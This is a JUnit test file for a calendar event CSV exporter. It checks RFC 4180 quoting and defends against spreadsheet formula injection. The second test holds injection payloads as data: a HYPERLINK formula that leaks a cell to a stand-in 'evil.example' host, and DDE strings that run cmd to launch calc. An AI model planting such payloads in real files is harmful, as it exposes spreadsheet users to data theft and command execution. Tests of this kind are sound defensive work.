package org.parallax.calendar;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.StringWriter;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.parallax.model.ArticleSummary;
import org.parallax.model.DateRange;
import org.parallax.model.DateSource;
import org.parallax.model.Event;
import org.parallax.model.EventKind;
import org.parallax.model.EventSource;

/** CSV quoting, checked by parsing the output back with a strict RFC 4180 reader. */
class EventCsvExporterTest {
    /** A minimal RFC 4180 parser: quoted fields may hold commas, doubled quotes and line breaks. */
    static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder f = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    f.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    f.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(f.toString());
                f.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(f.toString());
                f.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                f.append(c);
            }
        }
        if (quoted) throw new AssertionError("unterminated quote");
        return rows;
    }

    @Test
    void quotesCommasQuotesAndLineBreaksSoEachEventIsOneRow() {
        Event e = new Event(7, EventKind.VISIT, new DateRange(LocalDate.of(2023, 3, 6), LocalDate.of(2023, 3, 7),
                org.parallax.model.DatePrecision.DAY), List.of(1L, 2L), List.of("Landberg, Christopher A.", "Derek Chollet"),
                List.of(3L), List.of("Pakistan"), List.of(new EventSource(10, 0, 30, "He said \"dialogue\", twice."),
                new EventSource(11, 5, 40, "Second outlet's\nsentence.")), true, "checked");
        Map<Long, ArticleSummary> articles = Map.of(
                10L, new ArticleSummary(10, "Talks on March 6-7", "Dawn", LocalDate.of(2023, 3, 4), DateSource.FILE_HEADER, null),
                11L, new ArticleSummary(11, "Dialogue set", null, null, DateSource.NONE, null));
        StringWriter out = new StringWriter();
        new EventCsvExporter().write(List.of(e), articles, out);

        List<List<String>> rows = parse(out.toString());
        assertEquals(2, rows.size(), out.toString());
        assertEquals(EventCsvExporter.HEADER, rows.get(0));
        List<String> r = rows.get(1);
        assertEquals(List.of("2023-03-06", "2023-03-07", "DAY", "VISIT", "Landberg, Christopher A.; Derek Chollet", "Pakistan"),
                r.subList(0, 6));
        assertEquals("Dawn — Talks on March 6-7: \u201cHe said \"dialogue\", twice.\u201d\nDialogue set: \u201cSecond outlet's sentence.\u201d", r.get(6));
        assertEquals(List.of("yes", "checked"), r.subList(7, 9));
        assertTrue(out.toString().endsWith("\r\n"));
    }

    /** Cells from imported pages that a spreadsheet would run as formulas are written with a leading quote (OWASP). */
    @Test
    void formulaLikeCellsAreWrittenAsText() {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        Event e = new Event(8, EventKind.MEETING, new DateRange(LocalDate.of(2023, 3, 6), LocalDate.of(2023, 3, 6),
                org.parallax.model.DatePrecision.DAY), List.of(1L), List.of(hyperlink, "Derek Chollet"),
                List.of(3L), List.of("+1+cmd|' /C calc'!A0"), List.of(new EventSource(12, 0, 10, "They met.")), true,
                "@SUM(1+1)*cmd|' /C calc'!A0");
        Map<Long, ArticleSummary> articles = Map.of(
                12L, new ArticleSummary(12, "-2+3+cmd|' /C calc'!A0", null, null, DateSource.NONE, null));
        StringWriter out = new StringWriter();
        new EventCsvExporter().write(List.of(e), articles, out);

        List<String> r = parse(out.toString()).get(1);
        assertEquals("'" + hyperlink + "; Derek Chollet", r.get(4));
        assertEquals("'+1+cmd|' /C calc'!A0", r.get(5));
        assertTrue(r.get(6).startsWith("'-2+3+cmd"), r.get(6));
        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", r.get(8));
        // tab and carriage return too; our own columns and plain text are left alone
        assertEquals("'\tx", EventCsvExporter.text("\tx"));
        assertEquals("'\rx", EventCsvExporter.text("\rx"));
        assertEquals("Derek Chollet", EventCsvExporter.text("Derek Chollet"));
        assertEquals(List.of("2023-03-06", "2023-03-06", "DAY", "MEETING"), r.subList(0, 4));
    }
}
